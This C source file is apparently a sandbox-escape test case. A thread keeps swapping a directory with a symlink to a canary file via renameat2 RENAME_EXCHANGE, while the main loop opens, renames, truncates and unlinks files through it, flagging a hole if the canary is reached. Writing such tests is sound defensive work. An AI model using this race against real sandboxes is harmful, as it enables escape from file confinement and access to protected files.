// Class 11: names below a writable grant are exchanged with links that lead out while files are made, changed and removed through them.
#include "escape.h"
static volatile int running = 1;
static void *exchange(void *unused)
{
    while (running) {
        syscall(SYS_renameat2, AT_FDCWD, "d", AT_FDCWD, "l", 2 /* RENAME_EXCHANGE */);
        sched_yield();
    }
    return unused;
}
static void attack(void)
{
    pthread_t thread;
    mkdir("d", 0755);
    close(open("d/secret", O_CREAT | O_RDWR, 0644));
    symlink(canary, "l");
    pthread_create(&thread, NULL, exchange, NULL);
    for (long round = 0; round < rounds; round++) {
        struct stat status;
        int fd = open("d/secret", O_RDWR);
        if (fd >= 0) {
            HOLE_IF(fstat(fd, &status) == 0 && status.st_size != 0);
            close(fd);
        }
        close(open("d/made", O_CREAT | O_WRONLY, 0644));
        mkdir("d/directory", 0755), rmdir("d/directory");
        rename("d/secret", "d/moved"), rename("d/moved", "d/secret");
        truncate("d/secret", 0), chmod("d/secret", 0600), unlink("d/made");
        if (holes)
            break;
    }
    running = 0;
    pthread_join(thread, NULL);
}
